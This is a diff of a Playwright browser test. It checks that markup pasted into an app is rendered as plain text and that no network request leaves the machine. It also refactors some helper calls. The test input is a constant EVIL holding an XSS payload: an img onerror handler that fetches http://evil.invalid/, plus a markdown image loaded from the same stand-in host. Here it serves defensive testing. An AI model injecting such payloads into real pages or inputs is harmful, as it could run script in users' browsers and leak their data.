@@ -5,7 +5,16 @@ from urllib.parse import urlsplit
 
 from playwright.sync_api import Page, expect
 
-from tests.browser.actions import ask, look_at, paste, run_button, sentence, settled, use_endpoint
+from tests.browser.actions import (
+    ask,
+    look_at,
+    paste,
+    run,
+    run_button,
+    sentence,
+    settled,
+    use_endpoint,
+)
 from tests.fake_openai import Answer, FakeOpenAI
 
 EVIL = "<img src=x onerror=\"fetch('http://evil.invalid/')\"> ![seen](http://evil.invalid/a.png)"
@@ -26,9 +35,9 @@ def test_from_paste_to_every_call_markup_is_text_and_nothing_leaves_the_machine(
         sentence(tab, "compact would make 1 call").wait_for()
         expect(run_button(tab)).to_be_disabled()
         ask(tab, f"What pump failed at noon? {EVIL}")
-        run_button(tab).click()
-        sentence(tab, "compact made 1 call").wait_for()
+        run(tab, "compact made 1 call")
     expect(tab.locator(".tagged")).to_contain_text("The pump failed at noon")
+    settled(tab)
     tab.get_by_role("radio", name="Plain").click()
     expect(tab.get_by_role("radio", name="Plain")).to_be_checked()
     tab.get_by_text("for $5 and $6").first.wait_for()
